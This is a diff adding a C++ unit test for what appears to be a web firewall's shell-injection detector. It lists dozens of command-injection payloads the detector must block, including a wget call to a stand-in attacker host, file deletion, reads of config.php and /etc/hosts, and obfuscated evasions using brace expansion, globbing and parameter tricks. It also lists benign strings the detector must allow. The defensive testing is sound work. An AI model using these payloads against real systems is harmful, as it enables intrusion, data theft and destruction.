@@ -583,6 +583,60 @@ TEST(Shell, FilesAmongWords) {
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
 }
 
+// What other readings of a sign, a line, a name or a value leave to a shell. Each was run by bash or dash.
+TEST(Shell, OtherReadingsLeaveNothingOut) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const std::string_view text :
+       {";rm = index.html",
+        ";ls = .",
+        ";wget = http://evil.example/x",
+        ";<<x cat config.php",
+        ";<<x id",
+        ";cat config.php </etc>/dev/stdout",
+        ";id </etc>/dev/stdout",
+        "1&aa;cat config.php",
+        "1&aa;id",
+        "1&aa;ls -la",
+        "http://a.example/&cat config.php",
+        "http://a.example/&id",
+        "http://a.example/&ls -la",
+        ";ls;aa;bb",
+        ";whoami;aa;bb",
+        "&cat a b c d e /etc/hosts",
+        "$(cat a b c d e /etc/hosts)",
+        "; cat x, config.php",
+        "; rm x, index.html",
+        ";coproc x (:);id",
+        ";coproc x (:);ls -la",
+        ";for a in x id;do $a;done",
+        ";: ${a:=id};$a",
+        ";: ${a:=cat};$a config.php",
+        ";a=xid;${a#x}",
+        ";a=xcat;${a#x} config.php",
+        ";a=(x id);${a[1]}",
+        ";a[1]=id;${a[1]}",
+        ";a=1;b=1;c=1;d=1;e=1;f=1;g=1;h=1;i=1;j=1;k=1;l=1;m=1;n=1;o=1;p=1;q=cat;$q config.php",
+        ";/./b?n/c?t config.php",
+        ";{,,,,,,,,,,,,,,,,,,ls,-la}",
+        ";{{ls,-la},}",
+        ";c{a..a}t config.php",
+        ";l{s..s}",
+        ";echo a b c *",
+        ";sleep 1 1 1 5",
+        "x;sleep 5e0"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
+  const std::string long_name = ";c${" + std::string(140, 'A') + "}at config.php";
+  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, long_name, kBody, false, "v")));
+  for (const std::string_view text : {"a\nb\nc\nd\nid", "x\ncat a b c d e /etc/hosts"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
+  for (const std::string_view text :
+       {"a\nb\nc\nd\nid", "x; ls = 5", "; id = user.name", "R&amp;D;id=3",
+        "see http://a.example/?x=1&top and more", "http://a.example/?x=1&id", "|Date|Time|", "aa;id;name",
+        "; cat, dog and mouse", "std::cout\n  << id << name;", "<li>x; top</li>", "$a = 1; $b = 2;",
+        "price $a; $b", "Echo dot & Cat tree set / \"Midnight\""})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
+}
+
 // Options by which a client runs a program deny, others of its options do not.
 TEST(Shell, SettingsOfClients) {
   const Analyzer& analyzer = analyzer_named("cmd");
